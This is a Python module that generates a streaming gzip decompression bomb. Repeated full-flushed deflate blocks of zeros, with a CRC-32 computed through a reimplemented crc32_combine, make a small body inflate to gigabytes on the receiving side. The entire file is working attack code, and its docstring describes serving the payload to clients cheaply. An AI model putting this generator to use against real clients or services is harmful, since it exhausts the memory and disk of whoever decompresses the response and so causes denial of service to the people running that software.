"""A gzip stream that inflates to gigabytes of zeros from a body a thousand times smaller.

After a full flush, deflate restarts from an empty window, so one compressed mebibyte of zeros
is the same bytes every time: the body is that block repeated, between a gzip header and a
trailer whose CRC-32 is computed without ever producing the zeros (zlib's crc32_combine,
written out). Serving it costs a few kilobytes of memory and no compression work.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from functools import lru_cache

BLOCK = 1 << 20  # bytes of zeros one compressed block inflates to
_POLY = 0xEDB88320


@lru_cache(maxsize=1)
def zero_block() -> bytes:
    """One MiB of zeros, deflated and full-flushed (a self-contained run of deflate blocks)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    return compressor.compress(bytes(BLOCK)) + compressor.flush(zlib.Z_FULL_FLUSH)


def _times(matrix: list[int], vector: int) -> int:
    total, row = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _square(matrix: list[int]) -> list[int]:
    return [_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A+B from crc32(A), crc32(B) and len(B), as zlib's crc32_combine."""
    if len2 <= 0:
        return crc1
    odd = [_POLY] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = _square(odd)  # two zero bits
    odd = _square(even)  # four zero bits
    while True:
        even = _square(odd)  # first pass: one zero byte
        if len2 & 1:
            crc1 = _times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _square(even)
        if len2 & 1:
            crc1 = _times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


@lru_cache(maxsize=16)
def zeros_crc(blocks: int) -> int:
    """CRC-32 of `blocks` MiB of zeros, by doubling instead of hashing gigabytes."""
    result, length = 0, 0
    power, power_len = zlib.crc32(bytes(BLOCK)), BLOCK
    while blocks:
        if blocks & 1:
            result = crc32_combine(result, power, power_len) if length else power
            length += power_len
        blocks >>= 1
        if blocks:
            power = crc32_combine(power, power, power_len)
            power_len *= 2
    return result


def gzip_bomb(blocks: int, chunk: int = 64 * 1024) -> Iterator[bytes]:
    """The gzip body inflating to `blocks` MiB of zeros, in pieces of about `chunk` bytes."""
    yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # gzip header: deflate, no name, no mtime
    block = zero_block()
    per_piece = max(1, chunk // len(block))
    left = blocks
    while left:
        n = min(per_piece, left)
        yield block * n
        left -= n
    final = b"\x03\x00"  # an empty final fixed-Huffman block ends the deflate stream
    yield final + struct.pack("<II", zeros_crc(blocks), (blocks * BLOCK) & 0xFFFFFFFF)


def bomb_size(blocks: int) -> int:
    """Bytes on the wire of gzip_bomb(blocks)."""
    return 10 + blocks * len(zero_block()) + 2 + 8
